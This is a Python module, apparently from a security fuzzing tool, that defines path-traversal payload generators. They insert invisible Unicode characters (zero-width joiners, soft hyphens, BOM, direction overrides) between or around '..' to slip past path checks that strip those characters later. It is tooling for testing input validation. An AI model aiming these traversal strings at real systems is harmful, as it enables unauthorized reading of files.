"""Climbs with characters that nobody sees, until somebody removes them."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import late, straight
from capfuzz.attacks.techniques.registry import Kind, technique

_IGNORABLES = (
    "\u200b",  # zero width space
    "\u200c",  # zero width non-joiner
    "\u200d",  # zero width joiner
    "\u2060",  # word joiner
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\u034f",  # combining grapheme joiner
    "\ufe0f",  # variation selector 16
    "\u180e",  # Mongolian vowel separator
    "\U000e0001",  # language tag
)


@technique(
    "ignorable-between-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-182",
    needs="removes invisible characters after the check, or opens on a file system that ignores them",
    refs=("CVE-2014-9390",),
)
def ignorable_between_dots(root: str, target: str) -> Iterator[str]:
    """Put a character that nobody sees between two dots: joiners, marks, soft hyphen, BOM."""
    yield late(root, target, ".\u200b./")
    for mark in _IGNORABLES:
        yield straight(root, target, f".{mark}./")


@technique(
    "ignorable-around-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-182",
    needs="removes or trims invisible characters after the check",
    refs=("CVE-2014-9390",),
)
def ignorable_around_dots(root: str, target: str) -> Iterator[str]:
    """Put invisible characters before and after two dots, where a trim suffices to remove them."""
    for mark in ("\u200b", "\u200d", "\ufeff", "\u00ad"):
        yield straight(root, target, f"..{mark}/")
        yield straight(root, target, f"{mark}../")


@technique(
    "bidi-controls",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-451",
    needs="removes direction marks after the check",
)
def bidi_controls(root: str, target: str) -> Iterator[str]:
    """Put direction marks, overrides and isolates between two dots."""
    for mark in "\u200e\u202e\u2066\u061c":
        yield straight(root, target, f".{mark}./")
